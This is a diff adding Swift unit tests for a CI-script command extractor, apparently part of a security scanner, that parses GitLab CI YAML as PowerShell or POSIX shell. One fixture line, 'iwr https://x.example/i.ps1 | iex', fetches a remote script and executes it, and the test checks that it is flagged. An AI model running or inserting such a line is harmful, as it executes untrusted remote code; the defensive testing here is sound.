@@ -40,4 +40,41 @@ struct PowerShellEscapeTests {
         #expect(read.problems == 0)
         #expect(read.programs.contains("iex"), "\(read.programs)")
     }
+
+    @Test(
+        "a CI script that names no shell and only PowerShell reads is read as PowerShell",
+        arguments: [
+            "New-ItemProperty -Path \"HKLM:\\SYSTEM\\FileSystem\" `\n  -Name \"LongPathsEnabled\" -Value 1",
+            "Write-Host \"Go in C:\\Program Files\\Go\\\"",
+            "$env:Path = \"C:\\Go\\bin\\;$env:Path\"; Write-Host `\n  done",
+        ])
+    func undeclaredShell(first: String) {
+        let yaml = """
+            test:
+              tags: [windows]
+              script:
+                - |
+            \(first.split(separator: "\n", omittingEmptySubsequences: false).map { "      " + $0 }.joined(separator: "\n"))
+                - iwr https://x.example/i.ps1 | iex
+            """
+        let facts = CommandExtractor().facts(
+            kind: .gitlabCI, path: ".gitlab-ci.yml", content: Array(yaml.utf8),
+            addedLines: Set(1...20), commit: nil)
+        #expect(!facts.contains { if case .parse = $0 { true } else { false } }, "\(facts)")
+        let programs = CommandExtractorTests.commands(.gitlabCI, yaml).flatMap(\.programs).map { $0.lowercased() }
+        #expect(programs.contains("iex"), "\(programs)")
+    }
+
+    @Test("a CI script a POSIX shell reads stays shell, and one neither reads stays a parse problem")
+    func shellStaysShell() {
+        // PowerShell would read `\"` as a backslash closing the string; a POSIX shell reads an escaped quote.
+        let readable = "test:\n  script:\n    - echo \"a \\\"b\\\" c\" && terraform apply\n"
+        let read = CommandExtractorTests.commands(.gitlabCI, readable)
+        #expect(read.flatMap(\.programs) == ["echo", "terraform"])
+        let unreadable = "test:\n  script:\n    - echo 'never closed\n"
+        let facts = CommandExtractor().facts(
+            kind: .gitlabCI, path: ".gitlab-ci.yml", content: Array(unreadable.utf8), addedLines: [1, 2, 3],
+            commit: nil)
+        #expect(facts.contains { if case .parse = $0 { true } else { false } })
+    }
 }
